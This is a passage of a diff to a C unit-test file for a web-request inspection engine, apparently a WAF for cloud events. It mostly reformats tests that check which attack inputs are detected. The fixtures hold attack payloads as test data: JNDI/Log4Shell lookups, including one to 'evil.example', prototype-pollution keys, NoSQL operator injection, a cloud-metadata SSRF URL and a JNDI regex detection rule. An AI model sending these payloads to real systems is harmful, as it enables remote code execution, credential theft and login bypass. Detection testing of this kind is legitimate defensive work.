-			      strstr(x, "http://169.254.169.254/latest/meta-data/") && strlen(x) <= 128,
-		      "excerpt: %s", x);
+	ck_assert_msg(strstr(x, "key=****") && !strstr(x, "4111111111111111") &&
+	                  strstr(x, "************1111") &&
+	                  strstr(x, "http://169.254.169.254/latest/meta-data/") && strlen(x) <= 128,
+	              "excerpt: %s", x);
 	pol_result_free(r);
 	pol_engine_free(e);
 }
@@ -555,10 +726,12 @@ END_TEST
 
 START_TEST(weak_signals_add_up)
 {
-	const char *p = write_tmp("weak.json",
-		"{\"threshold\": 6, \"rules\": [{\"id\": \"weak.a\", \"category\": \"xss\", \"score\": 3,"
-		" \"phrases\": [\"alpha\"]}, {\"id\": \"weak.b\", \"category\": \"xss\", \"score\": 3,"
-		" \"action\": \"alert\", \"phrases\": [\"beta\"]}]}");
+	const char *p = write_tmp(
+	    "weak.json",
+	    "{\"threshold\": 6, \"rules\": [{\"id\": \"weak.a\", \"category\": \"xss\", \"score\": "
+	    "3,"
+	    " \"phrases\": [\"alpha\"]}, {\"id\": \"weak.b\", \"category\": \"xss\", \"score\": 3,"
+	    " \"action\": \"alert\", \"phrases\": [\"beta\"]}]}");
 	struct pol_engine *e;
 	char err[256];
 	ck_assert_msg(pol_engine_new(&e, &p, 1, POL_MODE_BLOCK, err, sizeof(err)) == 0, "%s", err);
@@ -583,17 +756,19 @@ START_TEST(structural_findings_in_keys)
 	static const struct {
 		const char *ev, *rule, *path;
 	} cases[] = {
-		{"{\"a\":{\"constructor\":{\"prototype\":{\"admin\":true}}}}",
-		 "proto_pollution.constructor_prototype", "a.constructor.prototype"},
-		{"{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"{\\\"__proto__\\\":{\\\"x\\\":1}}\"}]}",
-		 "proto_pollution.key", "Records[0].body>$.__proto__"},
-		{"{\"httpMethod\":\"POST\",\"resource\":\"/\",\"requestContext\":{},"
-		 "\"headers\":{\"Content-Type\":\"application/x-www-form-urlencoded\"},"
-		 "\"body\":\"user=admin&password%5B%24ne%5D=x\"}",
-		 "nosqli.bracket_operator", "body>password[$ne]"},
-		{"{\"version\":\"2.0\",\"routeKey\":\"$default\",\"rawPath\":\"/\",\"requestContext\":{\"http\":{}},"
-		 "\"body\":\"{\\\"user\\\":{\\\"$gt\\\":\\\"\\\"}}\"}",
-		 "nosqli.operator_key", "body>$.user.$gt"},
+	    {"{\"a\":{\"constructor\":{\"prototype\":{\"admin\":true}}}}",
+	     "proto_pollution.constructor_prototype", "a.constructor.prototype"},
+	    {"{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"{\\\"__proto__\\\":{\\\"x\\\":"
+	     "1}}\"}]}",
+	     "proto_pollution.key", "Records[0].body>$.__proto__"},
+	    {"{\"httpMethod\":\"POST\",\"resource\":\"/\",\"requestContext\":{},"
+	     "\"headers\":{\"Content-Type\":\"application/x-www-form-urlencoded\"},"
+	     "\"body\":\"user=admin&password%5B%24ne%5D=x\"}",
+	     "nosqli.bracket_operator", "body>password[$ne]"},
+	    {"{\"version\":\"2.0\",\"routeKey\":\"$default\",\"rawPath\":\"/"
+	     "\",\"requestContext\":{\"http\":{}},"
+	     "\"body\":\"{\\\"user\\\":{\\\"$gt\\\":\\\"\\\"}}\"}",
+	     "nosqli.operator_key", "body>$.user.$gt"},
 	};
 	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
 		struct pol_result *r;
@@ -601,7 +776,8 @@ START_TEST(structural_findings_in_keys)
 		int found = 0;
 		for (size_t k = 0; k < pol_result_count(r); k++) {
 			const struct pol_finding *f = pol_result_finding(r, k);
-			found |= strcmp(f->rule, cases[i].rule) == 0 && strcmp(f->path, cases[i].path) == 0;
+			found |= strcmp(f->rule, cases[i].rule) == 0 &&
+			         strcmp(f->path, cases[i].path) == 0;
 		}
 		ck_assert_msg(found, "case %zu: no %s at %s", i, cases[i].rule, cases[i].path);
 		ck_assert_int_eq(pol_result_verdict(r), POL_BLOCK);
@@ -622,12 +798,12 @@ START_TEST(field_names_say_what_values_hold)
 		const char *ev;
 		int flagged;
 	} cases[] = {
-		{"{\"a\":{\"_CONF[path]\":\"https://foo.bar\"}}", 1},
-		{"{\"a\":{\"templateFile\":\"https://foo.bar/t.txt\"}}", 1},
-		{"{\"a\":{\"include\":\"ftp://files.example/x\"}}", 1},
-		{"{\"a\":{\"profile\":\"https://foo.bar\"}}", 0},
-		{"{\"a\":{\"website\":\"https://foo.bar\"}}", 0},
-		{"{\"a\":{\"filePath\":\"reports/2024/q1.pdf\"}}", 0},
+	    {"{\"a\":{\"_CONF[path]\":\"https://foo.bar\"}}", 1},
+	    {"{\"a\":{\"templateFile\":\"https://foo.bar/t.txt\"}}", 1},
+	    {"{\"a\":{\"include\":\"ftp://files.example/x\"}}", 1},
+	    {"{\"a\":{\"profile\":\"https://foo.bar\"}}", 0},
+	    {"{\"a\":{\"website\":\"https://foo.bar\"}}", 0},
+	    {"{\"a\":{\"filePath\":\"reports/2024/q1.pdf\"}}", 0},
 	};
 	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
 		struct pol_result *r;
@@ -645,10 +821,10 @@ END_TEST
 
 /* One engine, many threads: results must not depend on who else runs. */
 static const char *const mt_events[] = {
-	"{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
-	"\"queryStringParameters\":{\"q\":\"${jndi:ldap://x/a}\"}}",
-	"{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"{\\\"__proto__\\\":{}}\"}]}",
-	"{\"a\":\"hello world\"}",
+    "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
+    "\"queryStringParameters\":{\"q\":\"${jndi:ldap://x/a}\"}}",
+    "{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"{\\\"__proto__\\\":{}}\"}]}",
+    "{\"a\":\"hello world\"}",
 };
 
 struct mt_arg {
@@ -677,7 +853,7 @@ START_TEST(one_engine_many_threads)
 {
 	/* a regex rule too: PCRE2's match context is shared, match data not */
 	const char *p = write_tmp("mt.json", "{\"rules\":[{\"id\":\"mt.re\",\"category\":\"jndi\","
-				   "\"regex\":\"\\\\$\\\\{jndi:(ldap|rmi)\"}]}");
+	                                     "\"regex\":\"\\\\$\\\\{jndi:(ldap|rmi)\"}]}");
 	struct pol_engine *e;
 	char err[256];
 	ck_assert_msg(pol_engine_new(&e, &p, 1, POL_MODE_BLOCK, err, sizeof(err)) == 0, "%s", err);
@@ -699,25 +875,33 @@ END_TEST
 
 START_TEST(policy_rules_regex_targets_exclusions)
 {
-	const char *p = write_tmp("rules.json",
-		"{\"rules\": [{\"id\": \"app.admin\", \"category\": \"sqli\", \"severity\": \"critical\",\n"
-		"  \"regex\": \"adm[i1]n\\\\s*--\", \"transforms\": [\"url_decode\", \"lowercase\"],\n"
-		"  \"targets\": {\"sources\": [\"apigw-*\"], \"paths\": [\"queryStringParameters.*\"]}}],\n"
-		" \"exclusions\": [{\"rules\": [\"app.*\"], \"paths\": [\"queryStringParameters.safe\"]}]}\n");
+	const char *p = write_tmp(
+	    "rules.json",
+	    "{\"rules\": [{\"id\": \"app.admin\", \"category\": \"sqli\", \"severity\": "
+	    "\"critical\",\n"
+	    "  \"regex\": \"adm[i1]n\\\\s*--\", \"transforms\": [\"url_decode\", \"lowercase\"],\n"
+	    "  \"targets\": {\"sources\": [\"apigw-*\"], \"paths\": "
+	    "[\"queryStringParameters.*\"]}}],\n"
+	    " \"exclusions\": [{\"rules\": [\"app.*\"], \"paths\": "
+	    "[\"queryStringParameters.safe\"]}]}\n");
 	char err[256];
 	struct pol_engine *e;
-	ck_assert_msg(pol_engine_new(&e, &p, 1, POL_MODE_MONITOR, err, sizeof(err)) == 0, "%s", err);
+	ck_assert_msg(pol_engine_new(&e, &p, 1, POL_MODE_MONITOR, err, sizeof(err)) == 0, "%s",
+	              err);
 	static const struct {
 		const char *ev;
 		int hit;
 	} cases[] = {
-		{"{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
-		 "\"queryStringParameters\":{\"u\":\"ADM1N%20--\"}}", 1},
-		{"{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
-		 "\"queryStringParameters\":{\"safe\":\"admin --\"}}", 0},
-		{"{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
-		 "\"headers\":{\"x\":\"admin --\"}}", 0},
-		{"{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"admin --\"}]}", 0},
+	    {"{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
+	     "\"queryStringParameters\":{\"u\":\"ADM1N%20--\"}}",
+	     1},
+	    {"{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
+	     "\"queryStringParameters\":{\"safe\":\"admin --\"}}",
+	     0},
+	    {"{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
+	     "\"headers\":{\"x\":\"admin --\"}}",
+	     0},
+	    {"{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"admin --\"}]}", 0},
 	};
 	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
 		struct pol_result *r;
@@ -734,11 +918,12 @@ END_TEST
  * its own, and an exclusion by path must still apply to each one alone. */
 START_TEST(repeated_strings_judged_alike)
 {
-	const char *p = write_tmp("excl.json",
-		"{\"exclusions\": [{\"rules\": [\"jndi\"], \"paths\": [\"b3\"]}]}\n");
+	const char *p = write_tmp(
+	    "excl.json", "{\"exclusions\": [{\"rules\": [\"jndi\"], \"paths\": [\"b3\"]}]}\n");
 	char err[256];
 	struct pol_engine *e;
-	ck_assert_msg(pol_engine_new(&e, &p, 1, POL_MODE_MONITOR, err, sizeof(err)) == 0, "%s", err);
+	ck_assert_msg(pol_engine_new(&e, &p, 1, POL_MODE_MONITOR, err, sizeof(err)) == 0, "%s",
+	              err);
 	static const char attack[] = "${jndi:ldap://evil.example/a}";
 	/* alone: which rules fire */
 	struct pol_result *r;
@@ -759,7 +944,7 @@ START_TEST(repeated_strings_judged_alike)
 		len += (size_t)snprintf(big + len, cap - len, "\"a%d\":\"the same note\",", i);
 	for (int i = 0; i < 6; i++)
 		len += (size_t)snprintf(big + len, cap - len, "%s\"b%d\":\"%s\"", i ? "," : "", i,
-					attack);
+		                        attack);
 	len += (size_t)snprintf(big + len, cap - len, "}");
 	ck_assert_int_eq(pol_inspect(e, big, len, &r), 0);
 	for (int i = 0; i < 6; i++) {
@@ -791,26 +976,30 @@ START_TEST(policy_check_names_file_line_cause)
 	static const struct {
 		const char *text, *want;
 	} cases[] = {
-		{"{\n \"threshold\": 5,\n \"thresold\": 3\n}", ":3: unknown member \"thresold\""},
-		{"{\n \"rules\": [\n  {\"id\": \"x\", \"category\": \"sqli\",\n   \"regex\": \"(a\"}]}",
-		 ":4: rule \"x\": regex:"},
-		{"{\n \"limits\": {\"depth\": 100000}}", ":2: \"depth\" must be an integer from 1 to 256"},
-		{"{\n \"rules\": [{\"id\": \"x\", \"category\": \"nope\", \"phrases\": [\"a\"]}]}",
-		 ":2: \"category\" must name"},
-		{"{\n \"detectors\": {\"sqli\": {\"sources\": [\"kafka\"]}}}", ":2: \"kafka\" names no event source"},
-		{"{\n \"rules\": [{\"id\": \"x\", \"category\": \"xss\"}]}", ":2: rule \"x\" needs a \"regex\" or \"phrases\""},
-		{"{\n \"rules\": [\n}", ":3: not valid JSON"},
+	    {"{\n \"threshold\": 5,\n \"thresold\": 3\n}", ":3: unknown member \"thresold\""},
+	    {"{\n \"rules\": [\n  {\"id\": \"x\", \"category\": \"sqli\",\n   \"regex\": \"(a\"}]}",
+	     ":4: rule \"x\": regex:"},
+	    {"{\n \"limits\": {\"depth\": 100000}}",
+	     ":2: \"depth\" must be an integer from 1 to 256"},
+	    {"{\n \"rules\": [{\"id\": \"x\", \"category\": \"nope\", \"phrases\": [\"a\"]}]}",
+	     ":2: \"category\" must name"},
+	    {"{\n \"detectors\": {\"sqli\": {\"sources\": [\"kafka\"]}}}",
+	     ":2: \"kafka\" names no event source"},
+	    {"{\n \"rules\": [{\"id\": \"x\", \"category\": \"xss\"}]}",
+	     ":2: rule \"x\" needs a \"regex\" or \"phrases\""},
+	    {"{\n \"rules\": [\n}", ":3: not valid JSON"},
 	};
 	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
 		const char *p = write_tmp("bad.json", cases[i].text);
 		char err[512];
 		ck_assert_int_eq(pol_policy_check(p, err, sizeof(err)), -EINVAL);
 		ck_assert_msg(strncmp(err, p, strlen(p)) == 0 && strstr(err, cases[i].want),
-			      "case %zu: got \"%s\", want \"%s\"", i, err, cases[i].want);
+		              "case %zu: got \"%s\", want \"%s\"", i, err, cases[i].want);
 	}
-	const char *ok = write_tmp("ok.json",
-		"{\"paranoia\": 2, \"threshold\": 8, \"limits\": {\"depth\": 32, \"budget_us\": 2000},\n"
-		" \"detectors\": {\"xss\": \"alert\", \"ssrf\": {\"action\": \"off\"}}}");
+	const char *ok = write_tmp(
+	    "ok.json", "{\"paranoia\": 2, \"threshold\": 8, \"limits\": {\"depth\": 32, "
+	               "\"budget_us\": 2000},\n"
+	               " \"detectors\": {\"xss\": \"alert\", \"ssrf\": {\"action\": \"off\"}}}");
 	char err[256];
 	ck_assert_int_eq(pol_policy_check(ok, err, sizeof(err)), 0);
 	ck_assert_int_eq(pol_policy_check("/nonexistent/policy.json", err, sizeof(err)), -ENOENT);
@@ -830,6 +1019,8 @@ static Suite *policies_suite(void)
 	tcase_add_test(t, extract_bodies);
 	tcase_add_test(t, extract_queues_and_streams);
 	tcase_add_test(t, limits_are_reported_and_inspection_goes_on);
+	tcase_add_test(t, budget_holds_on_one_long_string);
+	tcase_add_test(t, detection_straddles_window_boundary);
 	tcase_add_test(t, malformed_event_is_an_error_verdict);
 	tcase_add_test(t, block_responses_per_source);
 	tcase_add_test(t, weak_signals_add_up);
